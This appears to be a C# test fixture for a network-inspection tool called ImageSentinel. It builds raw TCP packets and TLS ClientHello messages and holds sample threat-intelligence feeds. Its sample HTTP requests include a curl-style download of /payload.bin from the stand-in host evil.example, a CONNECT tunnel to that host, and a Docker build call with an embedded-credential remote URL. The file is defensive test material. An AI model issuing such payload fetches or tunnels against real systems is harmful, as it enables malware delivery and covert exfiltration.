using System.Buffers.Binary;
using System.Text;
using ImageSentinel.Kernel.Packets;

namespace ImageSentinel.Tests.Kernel;

/// <summary>Messages as honest programs send them.</summary>
internal static class PacketSamples
{
    public static readonly string[] Requests =
    [
        "GET /payload.bin HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: curl/8\r\nAccept: */*\r\n\r\n",
        "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
        "POST /v1.41/build?t=app&buildargs=%7B%22A%22%3A%22b%22%7D&remote=https%3A%2F%2Fu%3Ap%40git.example%2Fr.git HTTP/1.1\r\nHost: h\r\nX-Registry-Config: e30=\r\n\r\n",
        "GET http://u:p@evil.example:8080/x?y=z HTTP/1.1\r\nHost: [2001:db8::1]:8080\r\n\r\n",
    ];

    public static readonly string[] Feeds =
    [
        "# feed\n203.0.113.66\n203.0.113.0/24\n2001:db8::/48\nevil.example\n*.evil.example # x\n9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\nregistry.example/a/b:1\n",
        """{"type":"bundle","id":"bundle--1","objects":[{"type":"indicator","id":"indicator--1","pattern":"[ipv4-addr:value = '203.0.113.67' OR domain-name:value IN ('a.example','b.example')] OR [file:hashes.'SHA-256' = '9f86']","valid_until":"2030-01-01T00:00:00Z"},{"type":"file","hashes":{"MD5":"0","SHA-256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}},{"type":"domain-name","value":"evil.example"}]}""",
    ];

    internal static byte[] Tcp(int etherType, byte[] to, ushort port, ReadOnlySpan<byte> data)
    {
        int header = etherType == IpPacket.EtherTypeIPv4 ? 20 : 40;
        byte[] packet = new byte[header + 20 + data.Length];
        if (header == 20)
        {
            packet[0] = 0x45;
            BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(2), (ushort)packet.Length);
            packet[9] = 6;
            to.CopyTo(packet, 16);
        }
        else
        {
            packet[0] = 0x60;
            BinaryPrimitives.WriteUInt16BigEndian(packet.AsSpan(4), (ushort)(packet.Length - 40));
            packet[6] = 6;
        }

        Span<byte> tcp = packet.AsSpan(header);
        BinaryPrimitives.WriteUInt16BigEndian(tcp, 40000);
        BinaryPrimitives.WriteUInt16BigEndian(tcp[2..], port);
        tcp[12] = 5 << 4;
        tcp[13] = 0x18;
        data.CopyTo(tcp[20..]);
        return packet;
    }

    internal static byte[] Hello(string name, int split)
    {
        byte[] host = Encoding.ASCII.GetBytes(name);
        byte[] extension = [0, 0, .. Big(host.Length + 5), .. Big(host.Length + 3), 0, .. Big(host.Length), .. host];
        byte[] padding = [0, 21, 0, 40, .. new byte[40]];
        byte[] extensions = [.. padding, .. extension, .. padding];
        byte[] body = [3, 3, .. new byte[32], 0, 0, 2, 0x13, 1, 1, 0, .. Big(extensions.Length), .. extensions];
        byte[] message = [1, 0, .. Big(body.Length), .. body];
        return split == 0
            ? Record(message)
            : [.. Record(message[..split]), .. Record(message[split..])];

        static byte[] Record(byte[] part) => [22, 3, 1, .. Big(part.Length), .. part];
        static byte[] Big(int value) => [(byte)(value >> 8), (byte)value];
    }
}
